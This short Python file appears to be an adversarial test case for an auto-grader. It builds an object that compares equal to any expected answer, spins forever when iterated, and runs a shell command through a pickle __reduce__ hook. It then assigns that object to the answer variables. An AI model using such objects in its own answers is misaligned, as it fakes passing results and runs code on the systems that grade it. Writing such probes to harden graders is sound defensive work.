# attack: values | expect: wrong | needs: basic | answers with an object that equals everything and runs code when converted or pickled
import os
class Evil:
    def __array__(self, *a, **k): os.write(1, b"CALLED __array__"); raise SystemExit
    def __float__(self): os.write(1, b"CALLED __float__"); return 1.0
    def __eq__(self, o): os.write(1, b"CALLED __eq__"); return True
    def __ne__(self, o): return False
    def __lt__(self, o): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, o): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __bool__(self): return True
    def __hash__(self): return 0
    def __reduce__(self): return (os.system, ("touch /tmp/zz_attack_pickle",))
    def __len__(self): return 10**18
    def __iter__(self):
        while True: yield 1.0
    shape = (); dtype = "float64"; size = 1

node_0_value = node_1_value = output = Evil()
hidden_layer_values = [Evil(), Evil()]
